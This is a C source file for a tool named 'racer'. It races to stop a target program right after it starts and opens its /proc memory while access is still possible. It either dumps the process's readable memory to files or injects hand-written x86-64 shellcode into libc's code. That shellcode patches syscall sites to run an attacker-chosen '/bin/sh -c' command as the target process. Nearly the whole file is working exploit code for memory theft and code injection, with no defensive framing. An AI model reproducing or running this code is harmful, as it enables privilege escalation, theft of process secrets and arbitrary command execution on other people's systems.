/*
 * racer PROGRAM OUT [FILE] - a session's process that waits for PROGRAM to be started
 * (for FILE to be opened, which PROGRAM does early), stops the new process in its first
 * instant, opens its memory, and lets it go.
 *
 * A line on standard input: what can be read through every descriptor that was
 * won goes to OUT.NUMBER, and one line is printed:
 *   tried=N opened=N (memory of PROGRAM's processes) bytes=N
 *
 * RACER_COMMAND: a shell's words that each of these is made to execute, as itself: code is
 * written behind its system calls, and its children are ended, for which it waits.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

#define KEPT 512
#define HOT_US 5000

static struct won {
	pid_t pid;
	int mem, maps;
} kept[KEPT];
static int count, tried, opened;
static const char *name, *out, *command;

static int is_it(pid_t pid)
{
	char path[64], comm[32] = "";
	int fd, n;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : (int)read(fd, comm, sizeof(comm) - 1);
	if (fd >= 0)
		close(fd);
	return n > 0 && strncmp(comm, name, strlen(name)) == 0;
}

static int open_it(pid_t pid, const char *leaf)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, leaf);
	return open(path, (strcmp(leaf, "mem") == 0 && command ? O_RDWR : O_RDONLY) | O_CLOEXEC);
}

static void take(pid_t pid)
{
	struct won w = { pid, -1, -1 };
	int i;

	for (i = 0; i < count; i++)
		if (kept[i].pid == pid)
			return;
	if (count == KEPT || kill(pid, SIGSTOP) != 0)
		return;
	w.mem = open_it(pid, "mem");
	w.maps = open_it(pid, "maps");
	kill(pid, SIGCONT);
	tried++;
	if (w.mem >= 0 && w.maps >= 0)
		opened++;
	kept[count++] = w;
}

/* The youngest pids: the program was opened to be executed just now. */
static void strike(void)
{
	char text[128];
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC), last, pid;
	ssize_t n = read(fd, text, sizeof(text) - 1);

	close(fd);
	text[n > 0 ? n : 0] = '\0';
	last = atoi(strrchr(text, ' ') ? strrchr(text, ' ') : "0");
	for (pid = last; pid > last - 8; pid--)
		if (pid > 0 && is_it(pid))
			take(pid);
}

static size_t copy(int mem, unsigned long low, unsigned long high, FILE *to)
{
	static char page[1 << 16];
	size_t all = 0;
	ssize_t n;

	for (; low < high; low += (unsigned long)n, all += (size_t)n) {
		size_t want = high - low < sizeof(page) ? high - low : sizeof(page);

		n = pread(mem, page, want, (off_t)low);
		if (n <= 0 || fwrite(page, 1, (size_t)n, to) != (size_t)n)
			break;
	}
	return all;
}

#ifdef __x86_64__
/* Keeps its descriptors, and execve("/bin/sh", {"/bin/sh", "-c", what follows, NULL}, NULL). */
asm(".pushsection .rodata\n"
    "inject_code: mov $63, %edi\n"
    "4: mov $2, %esi; xor %edx, %edx; mov $72, %eax; syscall; dec %edi; jns 4b\n"
    "xor %eax, %eax; push %rax\n"
    "lea 3f(%rip), %rbx; push %rbx; lea 2f(%rip), %rbx; push %rbx; lea 1f(%rip), %rdi; push %rdi\n"
    "mov %rsp, %rsi; xor %edx, %edx; mov $59, %eax; syscall\n"
    "mov $77, %edi; mov $60, %eax; syscall\n"
    "1: .string \"/bin/sh\"\n2: .string \"-c\"\n3:\n"
    "inject_end: .popsection");
extern const char inject_code[], inject_end[];

static void end_children(pid_t of)
{
	char path[64], text[512];
	int pid, parent, fd;
	ssize_t n;

	for (pid = of + 1; pid < of + 4096; pid++) {
		snprintf(path, sizeof(path), "/proc/%d/stat", pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
		if (fd >= 0)
			close(fd);
		text[n > 0 ? n : 0] = '\0';
		if (strrchr(text, ')') && sscanf(strrchr(text, ')'), ") %*c %d", &parent) == 1 &&
		    parent == of)
			kill(pid, SIGKILL);
	}
}

static void inject(const struct won *w, const char *maps)
{
	static const unsigned char after[] = { 0x0f, 0x05, 0x48, 0x3d, 0x00, 0xf0, 0xff, 0xff };
	static unsigned char text[4 << 20];
	const char *line = strstr(maps, "libc.so.6");
	unsigned long low, high, at, code;
	unsigned char jump[5] = { 0xe9 };
	int32_t far;
	ssize_t n;

	/* The code of libc: the mapping that is executable. */
	while (line) {
		const char *begin = line;

		while (begin > maps && begin[-1] != '\n')
			begin--;
		if (sscanf(begin, "%lx-%lx r-x", &low, &high) == 2 &&
		    strstr(begin, "r-xp") == strchr(begin, ' ') + 1)
			break;
		line = strstr(line + 1, "libc.so.6");
	}
	if (!line || (n = pread(w->mem, text, sizeof(text), (off_t)low)) <= 0)
		return;
	code = low + 0x400;
	pwrite(w->mem, inject_code, (size_t)(inject_end - inject_code), (off_t)code);
	pwrite(w->mem, command, strlen(command) + 1,
	       (off_t)(code + (size_t)(inject_end - inject_code)));
	for (at = 0x2000; at + sizeof(after) < (unsigned long)n; at++) {
		if (memcmp(text + at, after, sizeof(after)) != 0)
			continue;
		far = (int32_t)(code - (low + at + 2 + sizeof(jump)));
		memcpy(jump + 1, &far, sizeof(far));
		pwrite(w->mem, jump, sizeof(jump), (off_t)(low + at + 2));
	}
	end_children(w->pid);
}
#else
static void inject(const struct won *w, const char *maps)
{
	(void)w;
	(void)maps;
}
#endif

static void report(void)
{
	static char maps[1 << 18];
	unsigned long low, high;
	size_t bytes = 0, have;
	char path[4096], *line, *rest;
	FILE *to;
	ssize_t n;
	int i;

	for (i = 0; i < count; i++) {
		if (kept[i].mem < 0 || kept[i].maps < 0)
			continue;
		/* The mappings of now, through a descriptor of then. */
		for (have = 0; (n = read(kept[i].maps, maps + have, sizeof(maps) - 1 - have)) > 0;
		     have += (size_t)n)
			;
		maps[have] = '\0';
		if (command) {
			inject(&kept[i], maps);
			continue;
		}
		snprintf(path, sizeof(path), "%s.%d", out, i);
		to = fopen(path, "w");
		for (rest = maps; to && (line = strtok_r(NULL, "\n", &rest));)
			if (sscanf(line, "%lx-%lx r", &low, &high) == 2)
				bytes += copy(kept[i].mem, low, high, to);
		if (to)
			fclose(to);
	}
	printf("tried=%d opened=%d bytes=%zu\n", tried, opened, bytes);
	fflush(stdout);
}

static int64_t now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

int main(int argc, char **argv)
{
	struct rlimit mark = { 4096, 4096 };
	struct pollfd p[2] = { { .fd = 0, .events = POLLIN }, { .events = POLLIN } };
	int64_t hot = 0;
	char text[4096];

	if (argc != 3 && argc != 4)
		return 2;
	name = strrchr(argv[1], '/') + 1;
	out = argv[2];
	command = getenv("RACER_COMMAND");
	setrlimit(RLIMIT_LOCKS, &mark);
	p[1].fd = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
	/* A program that one cannot read cannot be watched either: look always. */
	if (inotify_add_watch(p[1].fd, argv[argc == 4 ? 3 : 1], IN_OPEN | IN_ACCESS) < 0)
		hot = INT64_MAX;
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		/* Busy, as the instant is short; after an event it looks for a while,
		 * because the file is opened before there is a process of that name. */
		int r = poll(p, 2, now_us() < hot ? 0 : 1000);

		if (r > 0 && (p[1].revents & POLLIN)) {
			while (read(p[1].fd, text, sizeof(text)) > 0)
				;
			hot = now_us() + HOT_US;
		}
		if (now_us() < hot)
			strike();
		if (r > 0 && (p[0].revents & (POLLIN | POLLHUP))) {
			if (read(0, text, sizeof(text)) <= 0)
				return 0;
			report();
		}
	}
}
